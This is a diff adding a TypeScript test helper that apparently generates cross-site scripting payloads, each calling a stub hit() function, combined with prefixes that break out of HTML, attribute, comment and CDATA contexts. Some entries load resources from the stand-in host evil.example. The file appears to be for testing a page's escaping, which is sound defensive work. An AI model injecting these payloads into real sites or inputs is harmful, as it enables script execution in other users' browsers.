@@ -1,0 +1,38 @@
+/** Each tries to run `hit()`, from wherever a page might put it without looking. */
+const PAYLOADS = [
+  '<script>hit()</script>',
+  '<img src=x onerror=hit()>',
+  '<svg onload=hit()>',
+  '</script><script>hit()</script>',
+  '</title><script>hit()</script>',
+  '<iframe srcdoc="<script>parent.hit()</script>">',
+  '<a href=javascript:hit()>press</a>',
+  'javascript:hit()',
+  '<details open ontoggle=hit()>',
+  '<input autofocus onfocus=hit()>',
+  '<body onload=hit()>',
+  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
+  '<style>@import "//evil.example/x.css"</style>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<base href=//evil.example/>',
+  '<object data=javascript:hit()>',
+  '<form action=javascript:hit()><button autofocus>x',
+  '<video><source onerror=hit()></video>',
+  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
+  '&lt;script&gt;hit()&lt;/script&gt;',
+  '%3Cscript%3Ehit()%3C/script%3E',
+  '<scr<script>ipt>hit()</scr</script>ipt>',
+  '{{constructor.constructor("hit()")()}}',
+  '${hit()}',
+  '"onmouseover="hit()" autofocus onfocus="hit()',
+  '<math><mtext><script>hit()</script></mtext></math>',
+  '<template><script>hit()</script></template>',
+  '\u2028hit()\u2028',
+]
+
+/** What a page may have opened before, closed first. */
+const BEFORE = ['', '">', "'>", '-->', '</textarea>', '*/', ']]>', '<!--']
+
+export function scriptPayloads(count: number): string[] {
+  return BEFORE.flatMap((before) => PAYLOADS.map((payload) => before + payload)).slice(0, count)
+}
